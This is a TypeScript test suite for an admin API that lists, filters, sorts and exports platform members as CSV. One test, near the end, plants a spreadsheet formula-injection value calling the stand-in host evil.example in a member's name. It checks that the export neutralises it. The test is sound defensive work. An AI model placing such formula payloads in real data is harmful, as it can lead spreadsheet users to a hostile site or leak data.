import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createUser } from '../../src/server/modules/users/users.service.ts';
import { ensureWallets } from '../../src/server/modules/wallets/ledger.service.ts';
import { GENERIC } from '../../src/shared/messages.ts';
import { MEMBER_ADMIN_MESSAGES, MEMBER_CSV_COLUMNS, MEMBER_PAGE_SIZE } from '../../src/shared/users.ts';
import { ApiClient, fundedMember, signedInAdminClient, signedInMember } from '../helpers/client.ts';
import { startServer, type TestServer } from '../helpers/server.ts';

// GET /users/list?page= (spec 7 "allusers", spec 9 "paged by page number") and GET /users/export: the
// admin's members list, searchable by name, username, e-mail or phone, filterable by status and active
// flag, sortable, with wallet balances and join date, and the CSV of the current filter.
// Most members here are made through the same service registration uses (createUser + ensureWallets):
// 25 sign-ups over HTTP would pass the per-address registration limit. One member signs up over HTTP.

let server: TestServer;
let admin: ApiClient;
const TAG = `Qz${Date.now().toString(36)}`;
const COUNT = 23;
type Row = { id: string; fullname: string; username: string; email: string; phone: string };
const members: Row[] = [];

async function addMember(i: number, overrides: Partial<Row> = {}): Promise<Row> {
  const n = String(i).padStart(2, '0');
  const row = await createUser(server.db, {
    username: `${TAG.toLowerCase()}_${n}`,
    email: `${TAG.toLowerCase()}.${n}@example.com`,
    password_hash: 'not-a-real-hash',
    role: 'user',
    fullname: `${TAG} Person ${n}`,
    phone: `+1555000${String(1000 + i)}`,
    ...overrides,
  });
  await ensureWallets(server.db, row.id);
  // Join dates one minute apart, oldest first, so the default order (newest first) is known.
  const joined = new Date(Date.UTC(2025, 0, 1, 12, i)).toISOString();
  await server.db.updateTable('users').set({ created_at: joined }).where('id', '=', row.id).execute();
  return { ...row, ...overrides };
}

const credit = async (userId: string, wallet: 'business' | 'working', amount: string) => {
  const res = await admin.post('/admin/adjustments', {
    user_id: userId,
    wallet,
    direction: 'credit',
    amount,
    reason: 'List test funding',
  });
  expect(res.status).toBe(201);
};

beforeAll(async () => {
  server = await startServer();
  admin = await signedInAdminClient(server.baseUrl);
  for (let i = 0; i < COUNT; i++) members.push(await addMember(i));
});
afterAll(async () => server?.stop());

const list = async (query: string) => {
  const res = await admin.get(`/users/list?${query}`);
  expect(res.status, res.text).toBe(200);
  return res.body as {
    allusers: (Row & Record<string, unknown>)[];
    total: number;
    page: number;
    limit: number;
    total_pages: number;
  };
};
const search = encodeURIComponent(TAG);

describe('who may list and export members', () => {
  it('answers 401 signed out and 403 to a member, for the list and the export', async () => {
    const anonymous = new ApiClient(server.baseUrl);
    expect((await anonymous.get('/users/list?page=1')).status).toBe(401);
    expect((await anonymous.get('/users/export')).status).toBe(401);
    const { client } = await signedInMember(server.baseUrl);
    for (const path of ['/users/list?page=1', `/users/list?search=${search}`, '/users/export']) {
      const res = await client.get(path);
      expect(res.status).toBe(403);
      expect(res.body).toEqual({ message: GENERIC.forbidden });
    }
  });
});

describe('GET /users/list', () => {
  it('pages the members by page number, with no member on two pages', async () => {
    const first = await list(`search=${search}&page=1`);
    expect(first).toMatchObject({ total: COUNT, page: 1, limit: MEMBER_PAGE_SIZE, total_pages: 2 });
    expect(first.allusers).toHaveLength(MEMBER_PAGE_SIZE);
    const second = await list(`search=${search}&page=2`);
    expect(second.allusers).toHaveLength(COUNT - MEMBER_PAGE_SIZE);
    const ids = [...first.allusers, ...second.allusers].map((u) => u.id);
    expect(new Set(ids).size).toBe(COUNT);
    expect(new Set(ids)).toEqual(new Set(members.map((m) => m.id)));
    const beyond = await list(`search=${search}&page=3`);
    expect(beyond).toMatchObject({ total: COUNT, page: 3 });
    expect(beyond.allusers).toEqual([]);
    // Without a page the first one comes.
    expect((await list(`search=${search}`)).page).toBe(1);
  });

  it('shows each member’s fields, join date and available balances, and no admin or password', async () => {
    const [first] = members as [Row];
    await credit(first.id, 'business', '120.50');
    await credit(first.id, 'working', '3.05');
    const res = await admin.get(`/users/list?search=${encodeURIComponent(first.email)}`);
    expect(res.text).not.toMatch(/password/);
    const [row] = res.body.allusers;
    expect(res.body.total).toBe(1);
    expect(row).toMatchObject({
      id: first.id,
      username: first.username,
      email: first.email,
      fullname: first.fullname,
      role: 'user',
      status: 'unblock',
      is_active: 'inactive',
      created_at: new Date(Date.UTC(2025, 0, 1, 12, 0)).toISOString(),
      balance: { business: '120.50', working: '3.05' },
    });
    const everyone = await list('page=1');
    expect(everyone.allusers.every((u) => u.role === 'user')).toBe(true);
    expect(everyone.allusers.some((u) => u.email === 'root-admin@example.com')).toBe(false);
  });

  it('searches name, username, e-mail and phone, whatever the case', async () => {
    const [, second, third, fourth] = members as [Row, Row, Row, Row];
    const find = async (text: string) =>
      (await list(`search=${encodeURIComponent(text)}`)).allusers.map((u) => u.id);
    expect(await find(`${TAG} person 01`.toUpperCase())).toEqual([second.id]);
    expect(await find(third.username.toUpperCase())).toEqual([third.id]);
    expect(await find(fourth.email.toUpperCase())).toEqual([fourth.id]);
    // Phone numbers are stored without spaces; a search typed with spaces still finds them.
    expect(await find('555 000 1003')).toEqual([fourth.id]);
    expect(await find(`  ${TAG.toLowerCase()} PERSON 02  `)).toEqual([third.id]);
    expect(await find('nobody-has-this-text')).toEqual([]);
  });

  it('treats % and _ in the search as plain characters', async () => {
    const percent = await addMember(40, { fullname: `${TAG} 100% Sure` });
    const found = await list(`search=${encodeURIComponent('100%')}`);
    expect(found.allusers.map((u) => u.id)).toEqual([percent.id]);
    // "Person 00" would match "Person_0" if _ stood for any character.
    const underscore = await list(`search=${encodeURIComponent('Person_0')}`);
    expect(underscore.total).toBe(0);
    await server.db.deleteFrom('ledger_accounts').where('user_id', '=', percent.id).execute();
    // No sponsor, so no team above them counted them: only their own team totals row goes with them.
    await server.db.deleteFrom('team_totals').where('user_id', '=', percent.id).execute();
    await server.db.deleteFrom('users').where('id', '=', percent.id).execute();
  });

  it('filters by status and by the active flag', async () => {
    const [, , , , a, b, c] = members as [Row, Row, Row, Row, Row, Row, Row];
    expect((await admin.put(`/users/${a.id}`, { status: 'block' })).status).toBe(200);
    expect((await admin.put(`/users/${b.id}`, { is_active: 'active' })).status).toBe(200);
    expect((await admin.put(`/users/${c.id}`, { is_active: 'active', status: 'block' })).status).toBe(200);
    const ids = async (query: string) =>
      (await list(`search=${search}&${query}`)).allusers.map((u) => u.id).sort();
    expect(await ids('status=block')).toEqual([a.id, c.id].sort());
    expect(await ids('is_active=active')).toEqual([b.id, c.id].sort());
    expect(await ids('status=block&is_active=active')).toEqual([c.id]);
    expect((await list(`search=${search}&status=unblock`)).total).toBe(COUNT - 2);
    expect((await list(`search=${search}&is_active=inactive`)).total).toBe(COUNT - 2);
  });

  it('sorts: newest first by default, by name, username, e-mail and by either balance', async () => {
    const all = async (query: string) => {
      const page1 = await list(`search=${search}&${query}&page=1`);
      const page2 = await list(`search=${search}&${query}&page=2`);
      return [...page1.allusers, ...page2.allusers];
    };
    const byJoin = [...members].reverse().map((m) => m.id);
    expect((await all('')).map((u) => u.id)).toEqual(byJoin);
    expect((await all('sort=created_at&order=asc')).map((u) => u.id)).toEqual([...byJoin].reverse());
    const names = (await all('sort=fullname&order=asc')).map((u) => u.fullname);
    expect(names).toEqual([...names].sort());
    expect((await all('sort=fullname&order=desc')).map((u) => u.fullname)).toEqual([...names].reverse());
    const usernames = (await all('sort=username&order=asc')).map((u) => u.username);
    expect(usernames).toEqual(members.map((m) => m.username).sort());
    const emails = (await all('sort=email&order=desc')).map((u) => u.email);
    expect(emails).toEqual(
      members
        .map((m) => m.email)
        .sort()
        .reverse(),
    );

    const rich = members[8] as Row;
    const richer = members[9] as Row;
    await credit(rich.id, 'business', '500.00');
    await credit(richer.id, 'business', '9000.00');
    await credit(rich.id, 'working', '77.00');
    const byBusiness = await all('sort=business&order=desc');
    expect(byBusiness.slice(0, 3).map((u) => u.id)).toEqual([richer.id, rich.id, members[0]?.id]);
    expect(byBusiness[0]?.balance).toEqual({ business: '9000.00', working: '0.00' });
    const byWorking = await all('sort=working&order=desc');
    expect(byWorking.slice(0, 2).map((u) => u.id)).toEqual([rich.id, members[0]?.id]);
    const ascending = await all('sort=business&order=asc');
    expect(ascending.at(-1)?.id).toBe(richer.id);
  });

  it.each([
    ['page=0', 'page'],
    ['page=-1', 'page'],
    ['page=abc', 'page'],
    ['page=1.5', 'page'],
    ['status=frozen', 'status'],
    ['is_active=yes', 'is_active'],
    ['sort=password_hash', 'sort'],
    ['order=sideways', 'order'],
    [`search=${'x'.repeat(101)}`, 'search'],
  ])('%s is a 400 on %s', async (query, field) => {
    const res = await admin.get(`/users/list?${query}`);
    expect(res.status).toBe(400);
    expect(res.body.errors.map((e: { field: string }) => e.field)).toContain(field);
  });
});

// The Invested filter (docs/api.md "Members who never invested"): "invested" is what GET /users/non/users
// means by it, at least one top-up of the member's own, whoever paid for it.
describe('GET /users/list and /users/export with invested', () => {
  let investors: Row[] = [];
  const ids = async (query: string) =>
    (await list(`search=${search}&${query}`)).allusers.map((u) => u.id).sort();

  beforeAll(async () => {
    const plan = await admin.post('/plans/add', {
      name: `${TAG} list plan`,
      min_amount: '10',
      max_amount: '1000',
      roi_percent: '1',
      duration_days: 30,
    });
    expect(plan.status, plan.text).toBe(201);
    // A sponsor outside the search pays for four of the members (/topup/entry): the top-ups are theirs.
    const payer = await fundedMember(server.baseUrl, admin, { business: '1000' });
    investors = members.slice(10, 14);
    for (const m of investors) {
      const paid = await payer.client.post('/topup/entry', {
        id: m.id,
        userby_id: payer.auth.id,
        plan_id: plan.body.plan.id,
        amount: '25',
      });
      expect(paid.status, paid.text).toBe(201);
    }
  });

  it('never, yes and any split the members, and the page counts follow the filter', async () => {
    const invested = investors.map((m) => m.id).sort();
    expect(await ids('invested=yes')).toEqual(invested);
    const never = members.filter((m) => !invested.includes(m.id)).map((m) => m.id);
    const first = await list(`search=${search}&invested=never&page=1`);
    expect(first).toMatchObject({ total: COUNT - 4, page: 1, total_pages: 1 });
    expect(first.allusers.map((u) => u.id).sort()).toEqual(never.sort());
    expect((await list(`search=${search}&invested=never&page=2`)).allusers).toEqual([]);
    expect(await list(`search=${search}&invested=any`)).toMatchObject({ total: COUNT, total_pages: 2 });
    expect(await list(`search=${search}`)).toMatchObject({ total: COUNT, total_pages: 2 });
  });

  it('is the same rule as GET /users/non/users', async () => {
    const nonUsers = await admin.get('/users/non/users?limit=100');
    expect(nonUsers.status).toBe(200);
    const listed = await list('invested=never');
    expect(listed.total).toBe(nonUsers.body.total);
    const nonIds = new Set(nonUsers.body.allnonusers.map((u: { id: string }) => u.id));
    for (const m of members) expect(nonIds.has(m.id)).toBe(!investors.includes(m));
    // Everyone is exactly one of the two.
    expect((await list('invested=yes')).total + listed.total).toBe((await list('')).total);
  });

  it('combines with search, the other filters and the order', async () => {
    // "Person 1" finds members 10 to 19; four of them invested.
    const tens = encodeURIComponent(`${TAG} Person 1`);
    const inTens = async (query: string) => (await list(`search=${tens}&${query}`)).total;
    expect(await inTens('')).toBe(10);
    expect(await inTens('invested=yes')).toBe(4);
    expect(await inTens('invested=never')).toBe(6);
    const [one] = investors as [Row];
    expect((await list(`search=${encodeURIComponent(one.email)}&invested=never`)).total).toBe(0);
    expect((await list(`search=${encodeURIComponent(one.email)}&invested=yes`)).total).toBe(1);
    // A first top-up activates the member: every investor is active, so both filters narrow alike.
    expect(await ids('invested=yes&is_active=active')).toEqual(investors.map((m) => m.id).sort());
    const byName = await list(`search=${search}&invested=yes&sort=username&order=desc`);
    expect(byName.allusers.map((u) => u.username)).toEqual(
      investors
        .map((m) => m.username)
        .sort()
        .reverse(),
    );
  });

  it('the CSV holds the filter’s members only', async () => {
    const yes = await admin.get(`/users/export?search=${search}&invested=yes&sort=username&order=asc`);
    expect(yes.status).toBe(200);
    const [, ...rows] = parseCsv(yes.text);
    expect(rows.map((r) => r[0])).toEqual(
      [...investors].sort((a, b) => a.username.localeCompare(b.username)).map((m) => m.id),
    );
    const never = await admin.get(`/users/export?search=${search}&invested=never`);
    expect(parseCsv(never.text)).toHaveLength(1 + COUNT - 4);
  });

  it('an unknown value is a 400 that names the field; a member gets 403', async () => {
    for (const path of ['/users/list', '/users/export']) {
      for (const value of ['maybe', 'NEVER', '']) {
        const res = await admin.get(`${path}?invested=${value}`);
        expect(res.status, `${path} ${value}`).toBe(400);
        expect(res.body.errors).toContainEqual({
          field: 'invested',
          message: MEMBER_ADMIN_MESSAGES.investedInvalid,
        });
      }
      const { client } = await signedInMember(server.baseUrl);
      const res = await client.get(`${path}?invested=never`);
      expect(res.status).toBe(403);
      expect(res.body).toEqual({ message: GENERIC.forbidden });
    }
  });
});

/** Splits CSV text (RFC 4180: quoted cells, doubled quotes) into rows of cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  return rows;
}

describe('GET /users/export', () => {
  it('exports every member of the filter, not only the page, in the list’s order, as a CSV download', async () => {
    const ok = await admin.get(`/users/export?search=${search}&sort=username&order=asc&page=2`);
    expect(ok.status).toBe(200);
    expect(ok.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(ok.headers.get('content-disposition')).toMatch(
      /^attachment; filename="members-\d{4}-\d{2}-\d{2}\.csv"$/,
    );
    expect(ok.headers.get('cache-control')).toBe('no-store');
    // A byte-order mark first, so spreadsheet programs read the file as UTF-8 (fetch's text() drops it).
    const raw = await fetch(`${server.baseUrl}/api/v1/users/export?search=${search}`, {
      headers: { cookie: admin.cookieHeader() },
    });
    expect([...new Uint8Array(await raw.arrayBuffer()).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const [header, ...rows] = parseCsv(ok.text);
    expect(header).toEqual([...MEMBER_CSV_COLUMNS]);
    expect(rows).toHaveLength(COUNT);
    expect(rows.map((r) => r[2])).toEqual(members.map((m) => m.username).sort());
    const first = rows.find((r) => r[0] === members[0]?.id);
    const cell = (r: string[] | undefined, column: (typeof MEMBER_CSV_COLUMNS)[number]) =>
      r?.[MEMBER_CSV_COLUMNS.indexOf(column)];
    expect(cell(first, 'business_wallet')).toBe('120.50');
    expect(cell(first, 'working_wallet')).toBe('3.05');
    expect(cell(first, 'phone')).toBe('+15550001000');
    expect(cell(first, 'created_at')).toBe(new Date(Date.UTC(2025, 0, 1, 12, 0)).toISOString());

    const blocked = await admin.get(`/users/export?search=${search}&status=block`);
    expect(parseCsv(blocked.text)).toHaveLength(1 + 2);
  });

  it('defuses cells a spreadsheet would run as a formula', async () => {
    const risky = await addMember(50, { fullname: `=HYPERLINK("http://evil.example/?${TAG}","Click")` });
    const res = await admin.get(`/users/export?search=${encodeURIComponent(risky.email)}`);
    const [, row] = parseCsv(res.text);
    expect(row?.[1]).toBe(`'=HYPERLINK("http://evil.example/?${TAG}","Click")`);
    expect(res.text).toContain(`"'=HYPERLINK(""http://evil.example/?${TAG}"",""Click"")"`);
  });
});
